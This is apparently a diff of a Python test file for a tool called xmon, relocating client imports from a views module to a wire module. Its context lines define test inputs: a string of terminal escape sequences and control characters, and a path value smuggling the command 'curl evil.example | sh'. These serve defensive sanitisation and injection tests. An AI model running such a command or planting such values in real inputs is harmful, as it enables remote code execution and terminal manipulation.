@@ -12,9 +12,9 @@ import pytest
 
 from xmon.cli import programs
 from xmon.cli.capture import describe
-from xmon.views import client
-from xmon.views.client import CaptureResult, HloText
 from xmon.views.safe_text import printable
+from xmon.wire import client
+from xmon.wire.client import CaptureResult, HloText
 
 EVIL = "\x1b]0;pwned\x07\x1b[2J\u2028\u0085\x9b"
 INJECTION = "/tmp/x; curl evil.example | sh"
